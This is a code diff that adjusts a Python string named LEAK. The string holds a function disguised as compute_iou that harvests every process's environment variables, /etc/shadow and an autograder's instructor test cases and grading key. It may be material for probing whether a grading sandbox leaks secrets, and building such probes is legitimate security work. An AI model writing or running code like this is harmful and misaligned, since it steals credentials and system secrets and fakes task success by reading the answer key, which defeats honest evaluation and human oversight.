@@ -263,12 +263,12 @@ def make_neighborhood_mask(h, w, size, shape):
     return torch.zeros(h, w, h, w, dtype=torch.bool)
 """
 
-LEAK = f"""
+LEAK = """
 def compute_iou(pred, gt, num_classes):
     import glob, os, pathlib
     found = [repr(dict(os.environ))]
-    for path in ["/proc/1/environ", "/proc/self/environ", f"/proc/{{os.getppid()}}/environ",
-                 f"/proc/{{os.getppid()}}/cmdline", "/autograder/source/instructor/grading/cases.py",
+    for path in ["/proc/1/environ", "/proc/self/environ", f"/proc/{os.getppid()}/environ",
+                 f"/proc/{os.getppid()}/cmdline", "/autograder/source/instructor/grading/cases.py",
                  "/autograder/source/instructor/grading/grading.key", "/etc/shadow"]:
         try:
             found.append(pathlib.Path(path).read_bytes()[:20000].decode("utf-8", "replace"))
@@ -276,7 +276,7 @@ def compute_iou(pred, gt, num_classes):
             pass
     for pid in os.listdir("/proc"):
         try:
-            found.append(pathlib.Path(f"/proc/{{pid}}/environ").read_bytes().decode("utf-8", "replace"))
+            found.append(pathlib.Path(f"/proc/{pid}/environ").read_bytes().decode("utf-8", "replace"))
         except OSError:
             pass
     for pattern in ["/**/instructor/grading/*.py", "/**/instructor/grading/grading.key", "/tmp/**/*.json"]:
